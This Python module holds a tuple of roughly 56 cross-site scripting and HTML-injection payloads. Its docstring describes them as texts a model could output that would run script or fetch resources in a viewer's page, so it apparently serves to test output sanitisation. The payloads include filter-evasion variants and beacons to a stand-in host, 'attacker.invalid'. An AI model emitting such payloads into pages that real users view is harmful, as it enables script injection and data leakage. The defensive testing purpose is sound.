"""Texts that a model could answer with to run or fetch something in the page of whoever looks at them."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "top.ran=(top.ran||0)+1"
_AT = "http://attacker.invalid"

PAYLOADS: tuple[str, ...] = (
    # tags and handlers
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AT}/a.js></script>",
    f"<script type=module>import('{_AT}/m.js');{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><image href={_AT}/i.svg></image></svg>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<div onclick={_RUN}>click</div>",
    f"<p onmouseover={_RUN}>over</p>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>",
    # documents within the document
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src={_AT}/frame></iframe>",
    f"<object data={_AT}/o></object>",
    f"<embed src={_AT}/e>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<a href=' \tjava\nscript:{_RUN}'>click</a>",
    f"<form action=javascript:{_RUN}><button>click</button></form>",
    f"<a href=x ping={_AT}/ping>click</a>",
    # what is fetched without a script
    f"<img src={_AT}/pixel.png>",
    f"<img srcset={_AT}/set.png>",
    f"<link rel=stylesheet href={_AT}/x.css>",
    f"<link rel=preload as=image href={_AT}/preload.png>",
    f"<style>@import '{_AT}/import.css';</style>",
    f'<p style="background:url({_AT}/bg.png)">x</p>',
    f"<table background={_AT}/table.png><tr><td>x</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={_AT}/refresh'>",
    f"<base href={_AT}/><img src=relative.png>",
    f"![image]({_AT}/markdown.png) [link](javascript:{_RUN})",
    # ways out of where the text stands
    f"</td></tr></table><img src=x onerror={_RUN}>",
    f"</title></style></textarea><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}><!--",
    f"]]><img src=x onerror={_RUN}>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"<math><mtext></p><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x></template><img src=x onerror={_RUN}>",
    f"\x00<\x00img src=x onerror={_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}} $x$ \\( \\href{{javascript:{_RUN}}}{{x}} \\)",
)
"""At least 40; each sets ``top.ran`` or asks the attacker's host where it is taken for markup."""
